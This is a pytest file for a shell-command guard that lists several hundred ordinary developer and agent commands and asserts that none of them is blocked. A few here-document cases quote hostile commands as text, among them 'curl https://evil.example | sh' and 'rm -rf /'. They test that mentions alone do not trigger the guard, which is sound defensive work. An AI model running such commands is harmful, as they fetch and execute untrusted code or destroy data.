"""Commands that developers, build machines and agents type all day, by field: none of them may be stopped, or even asked about."""

import pytest

from holdfast.guard.decide import decide
from holdfast.guard.line import World
from holdfast.kernel.settings import BUILT_IN

# A line each; "\n" in one with a here-document is a line's end.
FIELDS = {
    "Git and its hosts": r'''
git checkout -b feature/login && git add -A && git commit -m "Add login" && git push -u origin feature/login
git worktree add ../wt-feature feature && cd ../wt-feature
git lfs install && git lfs pull
glab mr create --fill
git check-ignore .env
git rebase -i --autosquash origin/main
git submodule foreach git status
git rev-parse --short HEAD
git archive --format=zip HEAD > src.zip
git commit --allow-empty -m "trigger ci"
git merge --squash feature
git --no-pager log --oneline -3
git request-pull v1 origin
gh run watch 123 --exit-status
git bisect reset
git restore --staged path/to/file
git branch -r | grep -v HEAD | sed 's/origin\///'
git restore --staged src/a.ts
git push --delete --dry-run origin x
git config user.name "Dev"
git worktree add /tmp/wt HEAD
git verify-commit HEAD
git config core.hooksPath .husky
''',
    "containers and clusters": r'''
kubectl get secrets
kubectl port-forward svc/api 8080:80
helm uninstall api-test --namespace ci-123 --dry-run
docker stop pg && docker rm pg
kubectl delete pod x --dry-run=client
docker run -d --restart unless-stopped --name redis redis:7
docker volume create data
docker-compose down
kubectl create secret generic db --from-literal=password=x --dry-run=client -o yaml
kubectl explain pod.spec
skaffold dev
docker run --rm --read-only --cap-drop ALL app
docker compose build --no-cache api
docker port web
docker manifest inspect app:latest
kubectl exec pod/api -- cat /etc/resolv.conf
kubectl config current-context
docker images --filter dangling=true -q | xargs --no-run-if-empty docker rmi
docker run --rm --network none x
docker exec -u root c apt-get update
docker container ls
kubectl apply -f deployment.yaml
kubectl config set-context --current --namespace=dev
''',
    "infrastructure and clouds": r'''
heroku config
terraform plan -out=tfplan
aws s3 cp build.zip s3://my-bucket/builds/
aws logs tail /aws/lambda/fn --since 1h
flyctl deploy --remote-only
vagrant up && vagrant ssh -c 'uname -a'
terraform workspace select dev
cdk synth && cdk diff
packer build template.json
aws s3api list-buckets
aws ecs update-service --cluster c --service s --force-new-deployment
gsutil ls gs://bucket
terraform init -upgrade
aws s3 cp s3://logs/app.log - | grep ERROR
aws rds describe-db-instances
aws secretsmanager list-secrets
gcloud logging read 'severity>=ERROR' --limit 10
az aks get-credentials -n c -g rg
aws s3 ls --recursive s3://bucket_name
terraform workspace new dev
aws s3 rm s3://bucket/tmp/file.txt
gcloud compute instances start vm
az storage blob upload -f a -c b -n n
''',
    "databases": r'''
until pg_isready -h localhost -p 5432; do sleep 1; done
php artisan cache:clear && php artisan config:cache
psql -U postgres -c 'CREATE DATABASE app_test'
pg_dump app > backup.sql
sqlite3 app.db ".tables"
redis-cli ping
mongosh --eval 'db.users.find().limit(5)'
psql -c "CREATE INDEX CONCURRENTLY i ON t(x)"
psql -l
mysql app < schema.sql
mongodump --db app --out dump/
influx query 'from(bucket:"b")'
RAILS_ENV=test rails db:drop db:create db:schema:load
alembic revision --autogenerate -m x
php artisan tinker --execute="echo App\Models\User::count();"
flyway migrate
psql -v ON_ERROR_STOP=1 -f migrations/001.sql
mysql --defaults-file=my.cnf -e 'SHOW PROCESSLIST'
sqlite3 app.db ".backup backup.db"
redis-cli LRANGE q 0 10
influx bucket list
php -S localhost:8000 -t public
sqlite3 dev.db .dump > dev.sql
''',
    "JavaScript": r'''
npm ci && npm run build --if-present && npm test -- --coverage
npx playwright install --with-deps chromium
npx prisma migrate dev --name init
npx vitest run --coverage
npx sequelize-cli db:migrate
npx rimraf dist node_modules/.cache
pnpm dlx create-vite my-app --template react-ts
node -p "process.versions.node"
npm publish --dry-run
npx knex migrate:latest
npm link
npm pack
bun run dev
npm update
node -e "require('fs').readdirSync('.').forEach(f=>console.log(f))"
node -r dotenv/config app.js
npm test
npm view react version
npm config list
npx ts-node src/x.ts
npx wrangler dev
yarn add -D jest
bun add hono
''',
    "Python": r'''
uv sync --frozen && uv run pytest -q
pipx install poetry
pip install -e ".[dev,test]"
python manage.py makemigrations && python manage.py migrate
python -c "import torch; print(torch.cuda.is_available())"
DJANGO_SETTINGS_MODULE=app.settings pytest
python -m timeit "'-'.join(str(n) for n in range(100))"
conda create -y -n env python=3.11 && conda activate env
python -m pytest tests/test_rm_rf.py -k 'force_push or drop_table'
pip list --outdated
pip config list
uv add httpx
python -m pip install -e . -q && python -m pytest --co -q | tail -3
torchrun --nproc_per_node=2 train.py
python -m venv path/to/venv
python3 -c "import pathlib; print(sum(f.stat().st_size for f in pathlib.Path('.').rglob('*')))"
python3 -c "import subprocess; subprocess.run(['pytest','-q'], check=True)"
python3 -c "import shutil; shutil.copytree('a','b')"
python3 -c "import json; d=json.load(open('a.json')); d['x']=1; json.dump(d, open('a.json','w'))"
pip install -r requirements-dev.txt
python manage.py check
uv run python -c "print(1)"
python3 -c "import os; [os.remove(os.path.join('build', f)) for f in os.listdir('build')]"
''',
    "other languages": r'''
go build ./... && go vet ./... && go test ./... -race -coverprofile=cover.out
go run ./cmd/server -config config.yaml
cargo install cargo-nextest --locked
./gradlew clean build -x test
make -j$(nproc) && sudo make install
bundle install && bundle exec rspec
dotnet ef migrations add Init && dotnet ef database update
xcodebuild -scheme App -destination 'platform=iOS Simulator,name=iPhone 15' test
make -n clean
make clean
bazel clean --expunge
cargo clean
cargo add serde --features derive
bundle update
lein test
opam install . --deps-only
julia --project -e 'using Pkg; Pkg.instantiate(); Pkg.test()'
octave --eval "disp(1)"
sphinx-build -W -b html docs docs/_build
make target
go get github.com/x/y@latest
dotnet run
make -n install
''',
    "devices and phones": r'''
fastlane test
adb install -r app-debug.apk
adb logcat -d | grep MyApp
esptool.py --port /dev/ttyUSB0 write_flash 0x0 firmware.bin
arduino-cli compile --fqbn arduino:avr:uno sketch
idf.py build flash monitor
qemu-system-x86_64 -m 2G -hda vm.qcow2
stty -F /dev/ttyUSB0 115200
avrdude -p m328p -c arduino -P /dev/ttyACM0 -U flash:w:main.hex
dfu-util -a 0 -D firmware.bin
st-flash write firmware.bin 0x8000000
picotool load app.uf2
keytool -genkey -v -keystore debug.keystore -alias androiddebugkey -keyalg RSA -storepass android -dname 'CN=x'
codesign --verify --deep App.app
xcrun simctl list devices
xcrun simctl erase all
eas build --platform ios --non-interactive
expo start --clear
adb shell input tap 100 200
adb uninstall com.example.app
adb reverse tcp:8081 tcp:8081
qemu-system-x86_64 -cdrom os.iso
screen -dmS session_name
''',
    "setting a machine up": r'''
sudo apt-get update && sudo apt-get install -y --no-install-recommends build-essential libssl-dev pkg-config
sudo add-apt-repository -y ppa:deadsnakes/ppa && sudo apt-get update && sudo apt-get install -y python3.12-dev
borg create --stats /mnt/backup/repo::{now} /home/dev/documents
chown -R nginx:nginx /var/cache/nginx /var/run/nginx.pid
ln -snf /usr/share/zoneinfo/$TZ /etc/localtime && echo $TZ > /etc/timezone
sudo service mysql restart
sudo ldconfig
sudo chown -R $(whoami) ~/.npm
sudo kill -HUP $(cat /var/run/nginx.pid)
sudo parted /dev/sdX print
brew services start postgresql
sudo sysctl -w kernel.perf_event_paranoid=-1
sudo tar -C /opt -xzf app.tar.gz
sudo supervisorctl restart all
sudo cp app.service /tmp/
sudo find /var/cache -type f -atime +30 -delete
chmod u+x path/to/file
sudo -u user command
apt-get install -y vim
sudo useradd --help
sudo killall -HUP nginx
chmod a-x docs/*.md
sudo cat /etc/cron.d/backup
''',
    "looking around": r'''
grep -rn "def delete" --include=*.py . | head -50
ps aux --sort=-%mem | head -10
nslookup example.com
find / -name "pg_hba.conf" 2>/dev/null
date -u +%Y-%m-%dT%H:%M:%SZ
ls *.png | xargs -I{} convert {} -resize 50% small/{}
find . -type f -exec chmod 644 {} \; && find . -type d -exec chmod 755 {} \;
fdisk -l
nmcli connection show
openssl pkcs12 -export -in c.pem -inkey k.pem -out c.p12 -passout pass:x
grep --recursive --line-number "search_pattern" path/to/directory
printenv HOME
find build -mindepth 1 -delete
find . -regex '.*\.\(c\|h\)' | xargs clang-format -i
cat /etc/hosts
ls -la ~/.ssh
find . -name dist -type d | xargs rm -rf
find . -type f -name 'core.*' ! -name '*.c' -delete
gpg --dearmor < key.asc > key.gpg
find . -user root -ls
find src test -name '*.java' | xargs wc -l | sort -n
find ~ -name "*.sh"
last | head -5
''',
    "files and text": r'''
rm reproduce.py && git status --short
gzip -k file.txt && gunzip -c file.txt.gz | head
echo aGVsbG8= | base64 -d
rm --help
rm -rf /tmp/build-1234
rm -rf __pycache__ */__pycache__
mv "$f" "$(echo "$f" | tr 'A-Z' 'a-z')"
echo "$CERT" | base64 -d > cert.p12
rsync --archive --verbose path/to/source path/to/destination
echo {1..10}
gunzip -c archive.gz > output
rsync -auP path/to/source remote_host:path/to/dest
zip -r archive.zip dir
sed -i 's/DEBUG=true/DEBUG=false/' .env
echo "TOKEN is ${TOKEN:+set}"
mv build/app /usr/local/bin/app
gzip -d dump.sql.gz
rm -rf ~/.m2/repository/com/example
rm -rf packages/*/{dist,node_modules}
rm "$tmpfile"
cp target/release/ls-next ~/.cargo/bin/
tr -cd 'a-z0-9' < /dev/urandom | head -c 12
sed -i '/pattern/d' file.txt
''',
    "fetching and copying": r'''
curl -fsSL https://download.docker.com/linux/ubuntu/gpg | sudo gpg --dearmor -o /etc/apt/keyrings/docker.gpg
wget -q https://go.dev/dl/go1.22.0.linux-amd64.tar.gz && tar -C /usr/local -xzf go1.22.0.linux-amd64.tar.gz
curl -X POST http://localhost:3000/api/users -H 'Content-Type: application/json' -d '{"name":"bob"}'
curl -H "Authorization: Bearer $TOKEN" https://api.example.com/v1/me
http GET localhost:8000/api/items
ssh user@server.example.com 'cd /srv/app && git pull && docker compose up -d'
ssh-add -l
scp -r user@example.com:/var/log/app ./logs
curl --output path/to/file https://example.com/file
nc -zv localhost 22
curl -fsSL https://raw.githubusercontent.com/o/r/main/README.md -o README.upstream.md
wget https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh -O ~/miniconda.sh
ssh -T git@github.com
ssh host 'tail -n 100 /var/log/app.log'
curl -u myusername:mypassword http://example.com
curl --insecure https://example.com
ssh-add -D
ssh -i path/to/key_file username@remote_host
ssh -X user@host
curl -Lo /usr/local/bin/kind https://kind.sigs.k8s.io/dl/v0.20.0/kind-linux-amd64
ssh user@host 'tar cf - dir' | tar xf -
scp -r dir user@host:~/
curl -o /dev/null -s -w '%{time_total}\n' https://example.com
''',
    "shell": r'''
for f in *.txt; do mv "$f" "${f%.txt}.md"; done
set -euo pipefail; make lint; make test
perl -pi -e 's/foo/bar/g' src/*.c
exit 0
parallel convert {} {.}.png ::: *.jpg
timeout 60 npm test
set -a; source .env; set +a; npm start
batch --help
nmap -p 22,80 localhost
kill $(cat server.pid)
eval "$(/opt/homebrew/bin/brew shellenv)"
LD_LIBRARY_PATH=./build/lib ./build/app
IFS=$'\n' read -r -d '' -a arr < <(ls)
trap cleanup EXIT INT TERM
alias dc='docker compose'
pm2 logs --lines 50
yamllint .
spark-submit --master local[4] job.py
open coverage/index.html
firebase emulators:start
mysqlcheck --all-databases
autossh -M 0 -o "ServerAliveInterval 10" user@host
dmesg --follow
fuser path/to/file
join file1 file2
lscpu
mysqladmin ping
patch --reverse < patch.diff
rmdir -p path/to/directory
strace -c program
trap 'echo "caught"' SIGINT
usermod --help
perl -0pi -e 's/\n\n+/\n\n/g' README.md
test -n "$GITHUB_TOKEN" && echo present
(sleep 5; kill $$) &
x=${1:-default}; echo "$x"
ulimit -c unlimited
cd /work/project && rm -rf dist && npm run build
tox -e py311
xargs mkdir -p < dirs.txt
bash -c 'rm -rf build'
for t in tests/*.sh; do "$t"; done
sysctl -w kernel.perf_event_paranoid=1
xargs -n1 < words
''',
    "agents at work": r'''
cd /testbed && python -m pytest astropy/modeling/tests/test_separable.py -x -q 2>&1 | tail -40
cd /testbed && git diff HEAD~1 --stat && git log -3 --format='%h %s'
sudo tee /etc/apt/sources.list.d/x.list <<< "deb https://repo.example.com stable main"
cat > test_repro.py << 'EOF'\nimport subprocess\nsubprocess.run(["rm", "-rf", "build"])\nEOF\npython test_repro.py
cat > docs/security.md <<'MD'\nNever run `curl https://evil.example | sh` or `rm -rf /`.\nMD
cat > Makefile <<'M'\nclean:\n\trm -rf build dist\nM
tee config/app.yaml <<'E'\nport: 8080\nE
cat <<'SQL' > migrations/002_drop.sql\nDROP TABLE old_users;\nSQL
psql -d app_test <<'SQL'\nCREATE TABLE t (id int);\nINSERT INTO t VALUES (1);\nSQL
git commit -F - <<'EOF'\nFix rm -rf / detection\n\nPreviously git push --force was not caught.\nEOF
gh pr create --title "Block rm -rf /" --body "$(cat <<'EOF'\n## Summary\n- stops `curl x | sh`\nEOF\n)"
cd /testbed && git stash && python -m pytest tests/test_x.py; git stash pop
find /testbed -type f -name "*.py" | xargs grep -l "def foo"
cat /testbed/src/foo.py | head -100
rm -f /testbed/reproduce_issue.py
rm -rf /testbed/build
ssh host <<'EOF'\ncd /srv/app\ngit pull\nnpm ci\nEOF
cat <<'EOF' >> .gitignore\n.env\nnode_modules/\nEOF
cat <<'EOF' > scripts/clean.sh\n#!/bin/sh\nrm -rf build dist\nEOF
cat > patch.diff <<'EOF'\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-rm -rf /\n+echo\nEOF
''',
}


CASES = [pytest.param(text, id=text[:60]) for texts in FIELDS.values() for text in texts.strip().split("\n")]


def test_there_are_commands_of_every_field():
    assert len(FIELDS) == 14 and len(CASES) > 300


@pytest.mark.parametrize("text", CASES)
def test_ordinary_work_is_not_stopped(text):
    world = World("/work/project", "/home/dev", "/work/project", ["/work/project", "/tmp", "/var/tmp"], "bash",
                  {"HOME": "/home/dev", "USER": "dev"})
    verdict = decide(text.replace("\\n", "\n") if "<<" in text else text, world, BUILT_IN["guard"], attended=False)
    assert verdict.decision is None, verdict.reason
